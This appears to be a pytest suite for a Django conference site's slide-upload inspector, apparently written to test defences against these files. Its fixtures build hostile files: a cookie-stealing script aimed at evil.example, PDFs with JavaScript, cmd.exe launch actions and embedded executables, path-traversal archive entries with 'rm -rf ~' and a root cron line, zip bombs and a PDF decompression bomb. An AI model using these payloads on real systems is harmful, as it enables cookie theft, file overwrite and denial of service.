"""Hostile slide files: every kind an outside tester got accepted is disarmed or refused, and a
PDF bomb costs one child process its limits, never a web worker.

The files are made here: small ones by hand, the bombs by compressing a repetitive stream (a
2 GiB archive member costs one MiB of compression; the 300 MB PDF page about a second)."""

import hashlib
import io
import json
import os
import re
import struct
import sys
import threading
import time
import urllib.request
import warnings
import zipfile
import zlib
from pathlib import Path

import pikepdf
import pypdfium2 as pdfium
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from pikepdf import Array, Dictionary, Name, String

from events.models import SlideDeck
from events.services import create_decks
from events.uploads import inspect_document
from tests.conftest import files_in
from tests.events.factories import EventFactory, make_deck, pdf_upload
from tests.events.test_admin import deck_form

pytestmark = pytest.mark.django_db

FIXTURE_PDF = Path(__file__).resolve().parents[1] / "fixtures" / "shared-mime-info-spec.pdf"
GiB = 1024**3
MiB = 1024**2


# --- PDFs -------------------------------------------------------------------------------------


def slides() -> bytes:
    upload = pdf_upload("slides.pdf", pages=3)
    return upload.read()


def edited(data: bytes, change) -> bytes:
    """`data` after `change(pdf)`, saved by pikepdf."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def javascript_names_tree(pdf):
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('names')")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))


def javascript_open_action(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert('open')"))


def launch_action(pdf):
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 100, 100]),
        Border=Array([0, 0, 0]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))


def page_additional_actions(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert('page')")))


def embedded_executable(pdf):
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60, mime_type="")


HTML = b"<html><body><script>document.location='https://evil.example/'+document.cookie</script>\n"


def small_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("payload.js", "alert(1)")
    return out.getvalue()


HOSTILE_PDFS = {
    "javascript-names-tree": (lambda: edited(slides(), javascript_names_tree), "JavaScript"),
    "javascript-open-action": (lambda: edited(slides(), javascript_open_action), "JavaScript"),
    "launch-action": (lambda: edited(slides(), launch_action), "actions that start programs"),
    "page-additional-actions": (lambda: edited(slides(), page_additional_actions), "automatic actions"),
    "embedded-executable": (lambda: edited(slides(), embedded_executable), "embedded files"),
    "trailing-data": (lambda: slides() + b"\n" + b"\xde\xad\xbe\xef" * 64, None),
    "html-before": (lambda: HTML + slides(), None),
    "html-after": (lambda: slides() + HTML, None),
    "zip-after": (lambda: slides() + small_zip(), None),
    "zip-before": (lambda: pdf_inside_zip(), None),
}
ACTIVE_NAMES = re.compile(
    rb"/(JS|JavaScript|Launch|OpenAction|AA|EmbeddedFiles?|EF|AF|XFA|SubmitForm|ImportData)(?![A-Za-z0-9])"
)


def active_content(data: bytes) -> list[bytes]:
    """Names of active PDF content anywhere in `data`, every stream and object stream unpacked
    (QDF mode), so nothing hides in compressed data."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        out = io.BytesIO()
        pdf.save(
            out,
            qdf=True,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
        )
    return ACTIVE_NAMES.findall(out.getvalue())


def rendered(data: bytes) -> list[tuple[tuple[int, int], bytes]]:
    document = pdfium.PdfDocument(data)
    try:
        pictures = []
        for page in document:
            image = page.render(scale=1).to_pil()
            pictures.append((image.size, image.tobytes()))
        return pictures
    finally:
        document.close()


def stored_bytes(inspected) -> bytes:
    inspected.content.seek(0)
    return inspected.content.read()


@pytest.mark.parametrize("case", HOSTILE_PDFS, ids=list(HOSTILE_PDFS))
def test_hostile_pdf_is_disarmed_and_looks_the_same(case):
    make, removed = HOSTILE_PDFS[case]
    original = make()
    inspected = inspect_document(SimpleUploadedFile("talk.pdf", original))
    stored = stored_bytes(inspected)
    assert active_content(stored) == []
    assert stored.startswith(b"%PDF-") and stored.rstrip().endswith(b"%%EOF")
    assert b"<script" not in stored and b"\xde\xad\xbe\xef" not in stored
    assert not zipfile.is_zipfile(io.BytesIO(stored))
    assert inspected.sha256 == hashlib.sha256(stored).hexdigest() and inspected.size == len(stored)
    assert rendered(stored) == rendered(original)
    assert inspected.page_count == 3 and "Slide 2" in inspected.text
    if removed:
        assert removed in inspected.removed


def test_the_corpus_is_hostile_before_disarming():
    """The fixtures above carry what they claim (else the test above would prove nothing)."""
    for case in ("javascript-names-tree", "javascript-open-action", "page-additional-actions"):
        assert b"JavaScript" in active_content(HOSTILE_PDFS[case][0]())
    assert b"Launch" in active_content(HOSTILE_PDFS["launch-action"][0]())
    assert b"EmbeddedFiles" in active_content(HOSTILE_PDFS["embedded-executable"][0]())
    assert zipfile.is_zipfile(io.BytesIO(HOSTILE_PDFS["zip-after"][0]()))


def test_a_real_world_pdf_keeps_its_first_page_pixel_for_pixel():
    original = edited(FIXTURE_PDF.read_bytes(), javascript_open_action)
    stored = stored_bytes(inspect_document(SimpleUploadedFile("spec.pdf", original)))
    assert active_content(stored) == []
    first_before, first_after = pdfium.PdfDocument(original)[0], pdfium.PdfDocument(stored)[0]
    before, after = first_before.render(scale=2).to_pil(), first_after.render(scale=2).to_pil()
    assert before.size == after.size and before.tobytes() == after.tobytes()


def test_links_and_page_navigation_are_kept():
    def links(pdf):
        web = Dictionary(S=Name.URI, URI=String("https://www.spp2298.de/"))
        script_link = Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))
        annots = [
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]), A=action)
            for action in (web, script_link, Dictionary(S=Name.Named, N=Name.NextPage))
        ]
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(a) for a in annots])

    stored = stored_bytes(inspect_document(SimpleUploadedFile("talk.pdf", edited(slides(), links))))
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        actions = [annot.get("/A") for annot in pdf.pages[0].Annots]
        assert str(actions[0].URI) == "https://www.spp2298.de/"
        assert actions[1] is None  # a javascript: address is no link
        assert Name.NextPage == actions[2].N


def test_the_editor_is_told_what_was_taken_out(client, editor, media_root):
    event = EventFactory()
    client.force_login(editor)
    hostile = HOSTILE_PDFS["embedded-executable"][0]()
    response = client.post(
        "/admin/events/slidedeck/add/", deck_form(event, SimpleUploadedFile("talk.pdf", hostile)), follow=True
    )
    shown = [str(message) for message in response.context["messages"]]
    assert "“talk.pdf” stored without embedded files: the site keeps no active content in PDFs." in shown[0]
    response = client.post(
        f"/admin/events/event/{event.pk}/upload-slides/",
        {"files": [SimpleUploadedFile("bulk.pdf", hostile), pdf_upload("clean.pdf")]},
    )
    shown = [str(message) for message in response.context["messages"]]
    assert any(m.startswith("“bulk.pdf” stored without embedded files") for m in shown)
    assert not any("clean.pdf" in m for m in shown)


def test_attributes_of_tagged_pdfs_are_not_mistaken_for_actions():
    def tagged(pdf):
        attributes = Dictionary(O=Name.Layout, Placement=Name.Block)
        element = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.P, A=attributes))
        pdf.Root.StructTreeRoot = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot, K=element))

    inspected = inspect_document(SimpleUploadedFile("tagged.pdf", edited(slides(), tagged)))
    with pikepdf.open(io.BytesIO(stored_bytes(inspected))) as pdf:
        assert pdf.Root.StructTreeRoot.K.A.Placement == Name.Block
    assert inspected.removed == []


def test_stored_file_is_the_disarmed_one_and_is_what_the_download_serves(client, media_root):
    original = HOSTILE_PDFS["javascript-open-action"][0]()
    deck = make_deck(upload=SimpleUploadedFile("talk.pdf", original))
    stored = (media_root / deck.file.name).read_bytes()
    assert stored != original and active_content(stored) == []
    assert deck.sha256 == hashlib.sha256(stored).hexdigest() and deck.size == len(stored)
    assert deck.file.name == f"decks/{deck.sha256[:2]}/{deck.sha256}.pdf"
    response = client.get(deck.get_download_url())
    assert b"".join(response.streaming_content) == stored
    assert response["ETag"] == f'"{deck.sha256}"'


def test_the_same_original_gives_the_same_stored_file(media_root):
    original = HOSTILE_PDFS["embedded-executable"][0]()
    first = make_deck(upload=SimpleUploadedFile("a.pdf", original))
    second = make_deck(upload=SimpleUploadedFile("b.pdf", original))
    assert first.sha256 == second.sha256 and first.file.name == second.file.name
    assert [f for f in files_in(media_root) if f.startswith("decks/")] == [first.file.name]


# --- Presentation files (ZIP containers) -----------------------------------------------------

PPTX_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'presentationml.presentation.main+xml"/></Types>'
)
PPTM_TYPES = PPTX_TYPES.replace(
    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
)
PPTX = [("[Content_Types].xml", PPTX_TYPES), ("ppt/presentation.xml", "<p:presentation/>")]
ODP_MIMETYPE = "application/vnd.oasis.opendocument.presentation"
ODP = [
    ("mimetype", ODP_MIMETYPE),
    ("content.xml", "<office:document-content/>"),
    ("META-INF/manifest.xml", "<manifest:manifest/>"),
]
KEY = [
    ("Index/Document.iwa", b"\x00" * 32),
    ("Metadata/Properties.plist", b"bplist00"),
    ("Metadata/DocumentIdentifier", "B5A1"),
]


def zip_bytes(members, comment=b"") -> bytes:
    """A ZIP archive of (name, content) pairs, `mimetype` uncompressed as ODF requires."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # duplicate names are one of the cases
        for name, content in members:
            method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
        archive.comment = comment
    return out.getvalue()


def raw_zip(members) -> bytes:
    """A ZIP archive written field by field from (name, deflated data, CRC, declared size), for
    archives that lie or are too large to compress here."""
    out, directory = bytearray(), bytearray()
    for name, packed, crc, size in members:
        encoded, offset = name.encode(), len(out)
        out += struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(packed), size, len(encoded), 0
        )
        out += encoded + packed
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(packed), size, len(encoded), 0, 0, 0, 0, 0,
            offset,
        )  # fmt: skip
        directory += encoded
    start = len(out)
    out += directory
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), start, 0)
    return bytes(out)


def deflated(data: bytes) -> tuple[bytes, int, int]:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush(), zlib.crc32(data), len(data)


def deflated_zeros(mebibytes: int) -> bytes:
    """`mebibytes` MiB of zeros, deflated. After a full flush the packer starts afresh, so every
    MiB packs to the same bytes: compress one, repeat it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(MiB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * mebibytes + packer.flush()


def pptx_with(*extra) -> bytes:
    return zip_bytes([*PPTX, *extra])


def zip_bomb() -> bytes:
    """A PowerPoint file whose video unpacks to 2 GiB (2 MB packed). Its CRC is left at 0: the
    declared size alone must refuse it, before anything is unpacked."""
    members = [(name, *deflated(content.encode())) for name, content in PPTX]
    return raw_zip([*members, ("ppt/media/media1.mp4", deflated_zeros(2048), 0, 2 * GiB)])


def lying_bomb() -> bytes:
    """Declares 1 MiB with the right CRC for its first MiB, but unpacks to 64 MiB."""
    members = [(name, *deflated(content.encode())) for name, content in PPTX]
    zeros = bytes(MiB)
    return raw_zip([*members, ("ppt/media/image1.png", deflated_zeros(64), zlib.crc32(zeros), MiB)])


def pdf_inside_zip() -> bytes:
    """A ZIP whose first member (stored) is a PDF: PDF readers find %PDF- in the first KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("a.pdf"), slides(), compress_type=zipfile.ZIP_STORED)
        for name, content in PPTX:
            archive.writestr(name, content)
    return out.getvalue()


HOSTILE_CONTAINERS = {
    "pptx-parent-entry": ("talk.pptx", lambda: pptx_with(("../../.bashrc", "rm -rf ~")), "unsafe name (../../.bashrc)"),
    "pptx-absolute-entry": ("talk.pptx", lambda: pptx_with(("/etc/cron.d/x", "* * * * * root sh")), "unsafe name (/etc/cron.d/x)"),
    "pptx-backslash-entry": ("talk.pptx", lambda: pptx_with(("..\\..\\evil.bat", "del")), "unsafe name (..\\..\\evil.bat)"),
    "pptx-duplicate-entry": ("talk.pptx", lambda: pptx_with(("ppt/presentation.xml", "<other/>")), "ppt/presentation.xml twice"),
    "pptx-2-gib-bomb": ("talk.pptx", zip_bomb, "would unpack to 2.0\xa0GB, more than the 512.0\xa0MB allowed"),
    "pptx-high-ratio": ("talk.pptx", lambda: pptx_with(("ppt/media/image1.png", bytes(32 * MiB))), "times its size (the limit is 100 times)"),
    "pptx-lying-sizes": ("talk.pptx", lying_bomb, "is damaged: its contents do not unpack cleanly"),
    "pptx-macro": ("talk.pptx", lambda: pptx_with(("ppt/vbaProject.bin", b"\xd0\xcf\x11\xe0")), "contains macros (ppt/vbaProject.bin); save it as a .pptx without macros"),
    "pptm-content-types": ("talk.pptx", lambda: zip_bytes([("[Content_Types].xml", PPTM_TYPES), PPTX[1]]), "contains macros (a macro-enabled content type"),
    "pptx-activex": ("talk.pptx", lambda: pptx_with(("ppt/activeX/activeX1.bin", b"\x00")), "contains ActiveX controls (ppt/activeX/activeX1.bin)"),
    "pptx-missing-presentation": ("talk.pptx", lambda: zip_bytes(PPTX[:1]), "not a PowerPoint file (it lacks ppt/presentation.xml)"),
    "pptx-missing-content-types": ("talk.pptx", lambda: zip_bytes(PPTX[1:]), "(it lacks [Content_Types].xml)"),
    "pptx-with-pdf-inside": ("talk.pptx", pdf_inside_zip, "has a PDF at its start"),
    "pptx-after-pdf": ("talk.pptx", lambda: slides() + pptx_with(), "named like a PowerPoint file but its content is a PDF"),
    "pptx-with-comment": ("talk.pptx", lambda: zip_bytes(PPTX, comment=b"<script>alert(1)</script>"), "data after the end of the archive"),
    "pptx-with-trailing-html": ("talk.pptx", lambda: pptx_with() + HTML, "data after the end of the archive"),
    "odp-only-mimetype": ("talk.odp", lambda: zip_bytes(ODP[:1]), "(it lacks content.xml and META-INF/manifest.xml)"),
    "odp-missing-manifest": ("talk.odp", lambda: zip_bytes(ODP[:2]), "(it lacks META-INF/manifest.xml)"),
    "odp-mimetype-not-first": ("talk.odp", lambda: zip_bytes([*ODP[1:], ODP[0]]), "(it lacks mimetype)"),
    "odp-macro": ("talk.odp", lambda: zip_bytes([*ODP, ("Basic/Standard/Module1.xml", "<script:module/>")]), "contains macros (Basic/Standard/Module1.xml)"),
    "key-without-index": ("talk.key", lambda: zip_bytes(KEY[1:]), "not a Keynote file (it lacks Index/)"),
    "key-without-metadata": ("talk.key", lambda: zip_bytes(KEY[:1]), "not a Keynote file (it lacks Metadata/)"),
}  # fmt: skip


@pytest.fixture
def production_size_cap(settings):
    settings.SLIDES_MAX_UPLOAD_SIZE = 100 * MiB  # the default; the 2 GiB bomb is 2.1 MB


@pytest.mark.parametrize("case", HOSTILE_CONTAINERS, ids=list(HOSTILE_CONTAINERS))
def test_hostile_presentation_file_is_refused_with_a_clear_message(case, production_size_cap):
    name, make, message = HOSTILE_CONTAINERS[case]
    with pytest.raises(ValidationError) as refused:
        inspect_document(SimpleUploadedFile(name, make()))
    assert message in refused.value.messages[0]
    # Says what to do: upload again (saved or exported anew), or a file of an accepted type.
    assert "upload" in refused.value.messages[0] or "Accepted:" in refused.value.messages[0]


@pytest.mark.parametrize(
    ("name", "members"),
    [("talk.pptx", PPTX), ("talk.odp", ODP), ("talk.key", KEY)],
    ids=["pptx", "odp", "key"],
)
def test_well_formed_presentation_files_are_stored_as_uploaded(name, members):
    content = zip_bytes(members)
    inspected = inspect_document(SimpleUploadedFile(name, content))
    assert stored_bytes(inspected) == content
    assert inspected.sha256 == hashlib.sha256(content).hexdigest()


def test_the_archive_bombs_are_what_they_claim():
    """(Else the refusals above would prove nothing.) The 2 GiB bomb is refused by its declared
    size before anything is unpacked: its CRC is wrong, so unpacking it would say "damaged"."""
    bomb = zip_bomb()
    assert len(bomb) < 3 * MiB
    assert sum(info.file_size for info in zipfile.ZipFile(io.BytesIO(bomb)).infolist()) >= 2 * GiB
    liar = lying_bomb()
    member = zipfile.ZipFile(io.BytesIO(liar)).getinfo("ppt/media/image1.png")
    start = member.header_offset + 30 + len(member.filename)
    packed = liar[start : start + member.compress_size]
    assert member.file_size == MiB and len(zlib.decompress(packed, -15)) == 64 * MiB


def test_a_refused_file_never_stops_the_others_in_a_bulk_upload(media_root, production_size_cap):
    event = EventFactory()
    files = [
        SimpleUploadedFile("macro.pptx", pptx_with(("ppt/vbaProject.bin", b"\x00"))),
        pdf_upload("good.pdf"),
        SimpleUploadedFile("bomb.pptx", zip_bomb()),
        SimpleUploadedFile("ok.key", zip_bytes(KEY)),
    ]
    created, refused, _ = create_decks(event, files)
    assert [deck.original_filename for deck in created] == ["good.pdf", "ok.key"]
    assert [name for name, _ in refused] == ["macro.pptx", "bomb.pptx"]


# --- The child process ------------------------------------------------------------------------

PROBE = """
import json, os, sys
from pathlib import Path

job = json.loads(sys.argv[1])
report = {
    "environment": sorted(os.environ),
    "descriptors": sorted(int(fd) for fd in os.listdir("/proc/self/fd")),
    "path": sys.path,
    "modules": sorted(m for m in sys.modules if m.split(".")[0] in ("django", "events", "spp_site", "tests")),
    "cwd": os.getcwd(),
}
Path(REPORT).write_text(json.dumps(report))
Path(job["work"], "result.json").write_text(json.dumps({"ok": {}}))
"""


def test_the_child_inherits_no_environment_no_open_files_and_no_django(tmp_path, monkeypatch):
    """What the inspector runs in, seen from a probe put in its place."""
    report = tmp_path / "report.json"
    probe = tmp_path / "probe.py"
    probe.write_text(PROBE.replace("REPORT", repr(str(report))))
    monkeypatch.setattr("events.uploads.INSPECTOR", probe)
    monkeypatch.setenv("DATABASE_URL", "postgres://spp:secret@db.example.org/spp")
    monkeypatch.setenv("DJANGO_SECRET_KEY", "not-for-children")
    with (tmp_path / "held-open").open("w"):  # a descriptor the parent holds during the upload
        inspect_document(SimpleUploadedFile("talk.key", zip_bytes(KEY)))
    seen = json.loads(report.read_text())
    assert set(seen["environment"]) <= {"LC_CTYPE"}  # Python may set its own locale
    assert set(seen["descriptors"]) <= {0, 1, 2, 3}  # stdin, stdout, stderr and listdir's own
    assert seen["modules"] == []
    project = str(Path(__file__).resolve().parents[2])
    # Nothing of the project's own code on its path (the virtualenv may live inside the checkout).
    outside_venv = [entry for entry in seen["path"] if not entry.startswith(sys.prefix)]
    assert not any(entry == project or entry.startswith(f"{project}/") for entry in outside_venv)
    assert Path(seen["cwd"]).name.startswith("spp-inspect-") and not Path(seen["cwd"]).exists()


# --- The PDF bomb ---------------------------------------------------------------------------


@pytest.fixture(scope="session")
def pdf_bomb() -> bytes:
    """611 KB whose one page's drawing inflates to 300 MB of rectangles: opening it took
    pypdfium2 24 s and about 6 GB."""
    packer = zlib.compressobj(9)
    rectangles = b"0 0 1 1 re f\n" * (MiB // 13)
    content = b"".join(packer.compress(rectangles) for _ in range(300)) + packer.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(content), content),
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def inspector_processes() -> dict[int, str]:
    """This process's children that run the inspector, or that are zombies: {pid: state}."""
    found = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        state, parent = stat.rsplit(")", 1)[1].split()[:2]
        if int(parent) == os.getpid() and (b"inspector.py" in cmdline or state == "Z"):
            found[int(entry.name)] = state
    return found


def test_pdf_bomb_is_refused_at_the_memory_limit(settings, pdf_bomb):
    settings.SLIDES_INSPECT_MEMORY = 256 * MiB  # quick to reach; the 1 GiB default is below
    with pytest.raises(ValidationError) as refused:
        inspect_document(SimpleUploadedFile("bomb.pdf", pdf_bomb))
    assert (
        "could not be opened within the site's safety limits (256.0\xa0MB of memory"
        in refused.value.messages[0]
    )
    assert inspector_processes() == {}


def test_pdf_bomb_is_stopped_at_the_timeout_leaving_no_process_or_file(settings, tmp_path, pdf_bomb):
    settings.SLIDES_INSPECT_TIMEOUT = 0.5
    settings.SLIDES_INSPECT_MEMORY = 4 * GiB  # time runs out first
    settings.FILE_UPLOAD_TEMP_DIR = tmp_path / "uploads"
    settings.FILE_UPLOAD_TEMP_DIR.mkdir()
    with pytest.raises(ValidationError) as refused:
        inspect_document(SimpleUploadedFile("bomb.pdf", pdf_bomb))
    assert "took longer than 0.5 seconds to open" in refused.value.messages[0]
    assert inspector_processes() == {}  # killed and reaped: no zombie
    assert list(settings.FILE_UPLOAD_TEMP_DIR.iterdir()) == []  # its working folder is gone


def test_bulk_upload_shares_one_time_limit(settings, pdf_bomb, media_root):
    settings.SLIDES_INSPECT_TIMEOUT = 0.5
    settings.SLIDES_INSPECT_MEMORY = 4 * GiB
    created, refused, _ = create_decks(
        EventFactory(), [SimpleUploadedFile("bomb.pdf", pdf_bomb), pdf_upload("good.pdf")]
    )
    assert created == []
    assert "took longer than 0.5 seconds" in refused[0][1][0]
    assert "“good.pdf” was not checked" in refused[1][1][0]
    assert "Upload it again on its own" in refused[1][1][0]


def test_pdf_bomb_through_the_admin_is_a_form_error(client, editor, settings, pdf_bomb, media_root):
    settings.SLIDES_INSPECT_MEMORY = 256 * MiB
    event = EventFactory()
    client.force_login(editor)
    response = client.post(
        "/admin/events/slidedeck/add/", deck_form(event, SimpleUploadedFile("bomb.pdf", pdf_bomb))
    )
    assert response.status_code == 200
    assert "safety limits" in " ".join(response.context["adminform"].form.errors["upload"])
    assert not SlideDeck.objects.exists() and files_in(media_root) == []


def _request(url, cookies, data=None, content_type=None):
    request = urllib.request.Request(url, data=data, headers={"Cookie": cookies})
    if content_type:
        request.add_header("Content-Type", content_type)
    with urllib.request.urlopen(request, timeout=60) as response:
        return response.status, response.read().decode(), response.headers.get_all("Set-Cookie") or []


@pytest.mark.django_db(transaction=True)
def test_pdf_bomb_is_refused_while_the_site_answers_other_requests(
    live_server, client, superuser, settings, pdf_bomb
):
    """The real site in a thread (live_server, one thread per request like gunicorn's workers one
    process each): while one request uploads the bomb, another gets a page; the upload ends with
    a refusal, not a reset. The default memory limit (1 GiB) is reached in about 2.5 s on an idle
    2-core machine; on a busy one the child (which yields the CPU) is slower, and a 5 s limit,
    instead of the default 15 s, keeps the test short."""
    settings.SLIDES_INSPECT_TIMEOUT = 5
    event = EventFactory()
    client.force_login(superuser)
    session = f"sessionid={client.cookies['sessionid'].value}"
    upload_url = f"{live_server.url}/admin/events/event/{event.pk}/upload-slides/"
    page_url = live_server.url + event.get_absolute_url()
    _, form, set_cookies = _request(upload_url, session)
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', form).group(1)
    csrf_cookie = next(c.split(";")[0] for c in set_cookies if c.startswith("csrftoken="))
    cookies = f"{session}; {csrf_cookie}"
    assert _request(page_url, cookies)[0] == 200  # warm: the first request loads templates

    upload = {}

    def upload_bomb():
        started = time.monotonic()
        body = encode_multipart(
            BOUNDARY, {"csrfmiddlewaretoken": token, "files": SimpleUploadedFile("bomb.pdf", pdf_bomb)}
        )
        upload["status"], upload["html"], _ = _request(upload_url, cookies, body, MULTIPART_CONTENT)
        upload["seconds"] = time.monotonic() - started

    uploader = threading.Thread(target=upload_bomb)
    uploader.start()
    deadline = time.monotonic() + 30
    while not inspector_processes() and uploader.is_alive() and time.monotonic() < deadline:
        time.sleep(0.01)
    pages = []  # (seconds, status, whether the bomb was still being opened when the page came)
    while uploader.is_alive():
        started = time.monotonic()
        status, html, _ = _request(page_url, cookies)
        pages.append((time.monotonic() - started, status, bool(inspector_processes()), event.title in html))
    uploader.join()

    assert upload["status"] == 200
    refusal = r"<strong>bomb.pdf</strong>: “bomb.pdf” (could not be opened within|took longer than 5 seconds)"
    assert re.search(refusal, upload["html"])
    assert upload["seconds"] < 5 + 10  # the limit, plus generous time to send, spawn and answer
    answered_meanwhile = [page for page in pages if page[2]]
    assert answered_meanwhile, f"no page was answered while the bomb was being opened: {pages}"
    assert all(status == 200 and shows_event for _, status, _, shows_event in pages)
    assert inspector_processes() == {}
